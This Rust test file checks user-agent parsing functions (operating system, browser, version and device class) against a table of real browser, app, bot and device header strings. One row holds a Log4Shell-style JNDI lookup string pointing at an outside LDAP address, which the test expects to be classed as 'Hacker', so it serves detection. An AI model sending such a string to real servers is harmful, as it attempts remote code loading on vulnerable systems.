//! User agents as they are met, and what the functions read in them. Written from the browsers' own
//! documentation and from what they send.

use dataprep::functions::Clock;
use dataprep::{CompileOptions, Expression};

const K: &str = "(KHTML, like Gecko)";

/// The header, in which `K` stands for `(KHTML, like Gecko)`; system, its version, agent, its version, class.
#[rustfmt::skip]
const ROWS: &[(&str, &str, &str, &str, &str, &str)] = &[
    // iPhones and iPads.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 K Version/5.1 Mobile/9B206 Safari/7534.48.3", "iOS", "5.1.1", "Safari", "5.1", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 K Version/17.5 Mobile/15E148 Safari/604.1", "iOS", "17.5.1", "Safari", "17.5", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 K CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1", "iOS", "17.5", "Chrome", "126.0.6478.54", "Phone"),
    ("Mozilla/5.0 (iPad; CPU OS 12_4_4 like Mac OS X) AppleWebKit/605.1.15 K Version/12.1.2 Mobile/15E148 Safari/604.1", "iOS", "12.4.4", "Safari", "12.1.2", "Tablet"),
    ("Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 K FxiOS/127.0 Mobile/15E148 Safari/605.1.15", "iOS", "17.5", "Firefox", "127.0", "Tablet"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 K Version/16.0 EdgiOS/114.0.1823.82 Mobile/15E148 Safari/605.1.15", "iOS", "16.6", "Edge", "114.0.1823.82", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 K OPiOS/16.0.15.124050 Mobile/15E148 Safari/9537.53", "iOS", "16.6", "Opera", "16.0.15.124050", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 K Version/17.4 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15", "iOS", "17.4", "DuckDuckGo", "7", "Phone"),
    ("Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5 like Mac OS X) AppleWebKit/605.1.15 K Version/12.1 Mobile/15E148 Safari/604.1", "iOS", "12.5", "Safari", "12.1", "Phone"),
    // Views inside apps.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 K Mobile/15E148", "iOS", "17.5", "Unknown", "??", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_1 like Mac OS X) AppleWebKit/605.1.15 K Mobile/20B82 [FBAN/FBIOS;FBAV/391.0.0.40.113;FBBV/414123]", "iOS", "16.1", "Facebook", "391.0.0.40.113", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 15_5 like Mac OS X) AppleWebKit/605.1.15 K Mobile/15E148 Instagram 244.0.0.12.112 (iPhone12,1; iOS 15_5; de_DE)", "iOS", "15.5", "Instagram", "244.0.0.12.112", "Phone"),
    ("Mozilla/5.0 (Linux; Android 12; SM-G991B Build/SP1A.210812.016; wv) AppleWebKit/537.36 K Version/4.0 Chrome/103.0.5060.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/375.1.0.28.111;]", "Android", "12", "Facebook", "375.1.0.28.111", "Phone"),
    ("Mozilla/5.0 (Linux; Android 11; Pixel 5 Build/RQ3A; wv) AppleWebKit/537.36 K Version/4.0 Chrome/90.0.4430.91 Mobile Safari/537.36", "Android", "11", "Chrome Webview", "90.0.4430.91", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 K Mobile/15E148 MicroMessenger/8.0.29(0x18001d38) NetType/WIFI", "iOS", "16.0", "WeChat", "8.0.29", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 K Mobile/15E148 [LinkedInApp]/9.27.1983", "iOS", "16.5", "LinkedIn", "9.27.1983", "Phone"),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15 K GSA/245.0.504693110 Mobile/15E148 Safari/604.1", "iOS", "16.3", "Google App", "245.0.504693110", "Phone"),
    ("Shop/2.14 CFNetwork/1408.0.4 Darwin/22.5.0", "Darwin", "22.5.0", "Shop", "2.14", "Unknown"),
    // Android.
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 K Chrome/126.0.0.0 Mobile Safari/537.36", "Android", "??", "Chrome", "126", "Phone"),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36", "Android", "??", "Chrome", "126", "Tablet"),
    ("Mozilla/5.0 (Linux; Android 7.0; Nexus 6 Build/NBD90Z) AppleWebKit/537.36 K Chrome/53.0.2785.124 Mobile Safari/537.36", "Android", "7.0", "Chrome", "53.0.2785.124", "Phone"),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 K SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36", "Android", "14", "SamsungBrowser", "25.0", "Phone"),
    ("Mozilla/5.0 (Linux; Android 9; SAMSUNG SM-T865) AppleWebKit/537.36 K SamsungBrowser/10.1 Chrome/71.0.3578.99 Safari/537.36", "Android", "9", "SamsungBrowser", "10.1", "Tablet"),
    ("Mozilla/5.0 (Android 13; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0", "Android", "13", "Firefox", "127.0", "Phone"),
    ("Mozilla/5.0 (Android 12; Tablet; rv:109.0) Gecko/115.0 Firefox/115.0", "Android", "12", "Firefox", "115.0", "Tablet"),
    ("Mozilla/5.0 (Linux; Android 8.0; Pixel XL Build/OPP3.170518.006) AppleWebKit/537.36 K Chrome/58.0.3029.0 Mobile Safari/537.36 EdgA/41.1.35.1", "Android", "8.0", "Edge", "41.1.35.1", "Phone"),
    ("Mozilla/5.0 (Linux; Android 13; M2101K6G) AppleWebKit/537.36 K Chrome/120.0.0.0 Mobile Safari/537.36 OPR/79.0.4195.76461", "Android", "13", "Opera", "79.0.4195.76461", "Phone"),
    ("Mozilla/5.0 (Linux; U; Android 2.3.6; en-us; GT-I9000 Build/GINGERBREAD) AppleWebKit/533.1 K Version/4.0 Mobile Safari/533.1", "Android", "2.3.6", "Android Browser", "4.0", "Phone"),
    ("Mozilla/5.0 (Linux; Android 11; CUBOT NOTE 20) AppleWebKit/537.36 K Chrome/96.0.4664.45 Mobile Safari/537.36", "Android", "11", "Chrome", "96.0.4664.45", "Phone"),
    ("Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 K Silk/90.2.1 like Chrome/90.0.4430.210 Safari/537.36", "Android", "9", "Silk", "90.2.1", "Tablet"),
    ("Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)", "Android", "11", "Dalvik", "2.1.0", "Mobile"),
    ("okhttp/4.9.3", "Unknown", "??", "okhttp", "4.9.3", "Unknown"),
    // Windows.
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36", "Windows NT", ">=10", "Chrome", "126", "Desktop"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 K Chrome/83.0.4103.97 Safari/537.36", "Windows NT", "10.0", "Chrome", "83.0.4103.97", "Desktop"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0", "Windows NT", ">=10", "Edge", "126", "Desktop"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 K Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", "Windows NT", "10.0", "Edge", "18.17763", "Desktop"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36 OPR/112.0.0.0", "Windows NT", ">=10", "Opera", "112", "Desktop"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", "Windows NT", ">=10", "Firefox", "127.0", "Desktop"),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", "Windows NT", "7", "Internet Explorer", "11.0", "Desktop"),
    ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", "Windows NT", "XP", "Internet Explorer", "8.0", "Desktop"),
    ("Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 K Chrome/49.0.2623.112 YaBrowser/16.4.1 Safari/537.36", "Windows NT", "8.1", "YaBrowser", "16.4.1", "Desktop"),
    ("Opera/9.80 (Windows NT 6.0; U; en) Presto/2.8.99 Version/11.10", "Windows NT", "Vista", "Opera", "11.10", "Desktop"),
    ("Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)", "Windows Phone", "8.0", "Internet Explorer", "10.0", "Phone"),
    // Mac OS.
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 K Version/17.5 Safari/605.1.15", "Mac OS", ">=10.15.7", "Safari", "17.5", "Desktop"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36", "Mac OS", ">=10.15.7", "Chrome", "126", "Desktop"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:127.0) Gecko/20100101 Firefox/127.0", "Mac OS", ">=10.15.7", "Firefox", "127.0", "Desktop"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/605.1.15 K Version/11.1.2 Safari/605.1.15", "Mac OS", "10.11.6", "Safari", "11.1.2", "Desktop"),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/537.36 K Chrome/83.0.4103.97 Safari/537.36 Vivaldi/3.1", "Mac OS", "10.15.5", "Vivaldi", "3.1", "Desktop"),
    // Linux, Chrome OS.
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36", "Linux", "??", "Chrome", "126", "Desktop"),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "Ubuntu", "??", "Firefox", "127.0", "Desktop"),
    ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 K Chrome/126.0.0.0 Safari/537.36", "Chrome OS", "126", "Chrome", "126", "Desktop"),
    ("Mozilla/5.0 (X11; FreeBSD amd64; rv:102.0) Gecko/20100101 Firefox/102.0", "FreeBSD", "??", "Firefox", "102.0", "Desktop"),
    // Televisions, boxes, consoles and the rest.
    ("Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 K SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36", "Tizen", "6.0", "SamsungBrowser", "4.0", "TV"),
    ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 K Chrome/79.0.3945.79 Safari/537.36 WebAppManager", "WebOS", "??", "Chrome", "79.0.3945.79", "TV"),
    ("Mozilla/5.0 (Linux; Android 9; BRAVIA 4K UR2) AppleWebKit/537.36 K Chrome/99.0.4844.88 Safari/537.36", "Android", "9", "Chrome", "99.0.4844.88", "TV"),
    ("Mozilla/5.0 (Linux; Android 7.1.2; AFTMM Build/NS6265; wv) AppleWebKit/537.36 K Version/4.0 Chrome/70.0.3538.110 Mobile Safari/537.36", "Android", "7.1.2", "Chrome Webview", "70.0.3538.110", "Set-top box"),
    ("AppleTV11,1/11.1", "tvOS", "??", "AppleTV11,1", "11.1", "Set-top box"),
    ("Roku/DVP-9.10 (519.10E04111A)", "Roku", "9.10", "Roku", "DVP-9.10", "Set-top box"),
    ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 K Version/13.0 Safari/605.1.15", "Unknown", "??", "Unknown", "??", "Game Console"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 K Chrome/58.0.3029.110 Safari/537.36 Edge/16.16299", "Windows NT", "10.0", "Edge", "16.16299", "Game Console"),
    ("Mozilla/5.0 (New Nintendo 3DS like iPhone) AppleWebKit/536.30 K NX/3.0.0.5.19 Mobile NintendoBrowser/1.6.10147.EU", "Unknown", "??", "NintendoBrowser", "1.6.10147.EU", "Handheld Game Console"),
    ("Mozilla/5.0 (Linux; Android 10; Quest 2) AppleWebKit/537.36 K OculusBrowser/18.1.0.2.46 Chrome/95.0.4638.74 Mobile VR Safari/537.36", "Android", "10", "OculusBrowser", "18.1.0.2.46", "Virtual Reality"),
    ("Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ K Version/4.0 Kindle/3.0 (screen 600x800; rotate) Safari/528.5", "Linux", "??", "Unknown", "??", "eReader"),
    ("Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 K Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2021.44.25", "Linux", "??", "Chromium", "79.0.3945.130", "Car"),
    ("Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5", "KaiOS", "2.5", "Firefox", "48.0", "Phone"),
    // Robots, libraries, attacks.
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Unknown", "??", "Googlebot", "2.1", "Robot"),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 K Chrome/125.0.6422.175 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Android", "6.0.1", "Googlebot", "2.1", "Robot Mobile"),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Unknown", "??", "bingbot", "2.0", "Robot"),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Unknown", "??", "facebookexternalhit", "1.1", "Robot"),
    ("Mozilla/5.0 AppleWebKit/537.36 K; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "Unknown", "??", "GPTBot", "1.2", "Robot"),
    ("Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)", "Unknown", "??", "Baiduspider-render", "2.0", "Robot"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 K HeadlessChrome/119.0.6045.105 Safari/537.36", "Linux", "??", "HeadlessChrome", "119.0.6045.105", "Robot"),
    ("curl/8.5.0", "Unknown", "??", "curl", "8.5.0", "Robot"),
    ("python-requests/2.31.0", "Unknown", "??", "python-requests", "2.31.0", "Robot"),
    ("${jndi:ldap://198.51.100.7/a}", "Unknown", "??", "Unknown", "??", "Hacker"),
    ("Amazon CloudFront", "Unknown", "??", "Unknown", "??", "Cloud"),
    ("Mozilla/5.0", "Unknown", "??", "Unknown", "??", "Unknown"),
    ("", "Unknown", "??", "Unknown", "??", "Unknown"),
];

fn eval(expression: &str, header: &str) -> Result<String, String> {
    let record = serde_json::json!({ "ua": header }).to_string();
    let result = Expression::compile(expression, CompileOptions::default())
        .map_err(|error| error.to_string())?
        .eval(&record, &mut Clock::default())
        .map_err(|error| error.to_string())?;
    Ok(serde_json::from_str(&result.json).unwrap())
}

#[test]
fn headers_as_they_are_met() {
    let mut wrong = Vec::new();
    for (header, os, os_version, agent, agent_version, class) in ROWS {
        let header = header.replace(" K ", &format!(" {K} ")).replace(" K;", &format!(" {K};"));
        for (function, expected) in [
            ("ua_os_name", os),
            ("ua_os_version", os_version),
            ("ua_agent_name", agent),
            ("ua_agent_version", agent_version),
            ("ua_device_class", class),
        ] {
            match eval(&format!("{function}(ua)"), &header) {
                Ok(found) if found == *expected => {}
                found => wrong.push(format!("{header}\n  {function}: expected {expected}, got {found:?}")),
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn names_with_versions() {
    for (header, os, os_major, agent_major) in [
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/127.0",
            "Windows >=10",
            "Windows >=10",
            "Firefox 127",
        ),
        ("Mozilla/5.0 (Windows NT 10.0) Firefox/60.0", "Windows 10.0", "Windows 10", "Firefox 60"),
        ("Mozilla/5.0 (Windows NT 6.3) Firefox/60.0", "Windows 8.1", "Windows 8.1", "Firefox 60"),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6)", "Mac OS 10.14.6", "Mac OS 10.14", "Unknown ??"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Firefox/127.0", "Linux ??", "Linux ??", "Firefox 127"),
        ("curl/8.5.0", "Unknown ??", "Unknown ??", "curl 8"),
    ] {
        assert_eq!(eval("ua_os_name_version(ua)", header).as_deref(), Ok(os), "{header}");
        assert_eq!(eval("ua_os_version_major(ua)", header).as_deref(), Ok(os_major), "{header}");
        assert_eq!(eval("ua_agent_version_major(ua)", header).as_deref(), Ok(agent_major), "{header}");
    }
}

#[test]
fn what_is_no_header_is_refused_or_null() {
    assert!(eval("ua_os_name(ua)", &"x".repeat(8193)).unwrap_err().contains("at most 8192 bytes"));
    assert!(eval("ua_os_name({'a': 1})", "").unwrap_err().contains("text"));
    let null = Expression::compile("ua_device_class(missing)", CompileOptions::default()).unwrap();
    assert_eq!(null.eval("{}", &mut Clock::default()).unwrap().json, "null");
    for odd in
        ["/", "Edg/", "Windows NT ", "(((", "Version/", "é/é bot/é", "Android", "\u{0}", "Mac OS X 10_"]
    {
        for part in ["os_name_version", "os_version_major", "agent_version_major", "device_class"] {
            assert!(eval(&format!("ua_{part}(ua)"), odd).is_ok(), "{odd}");
        }
    }
}
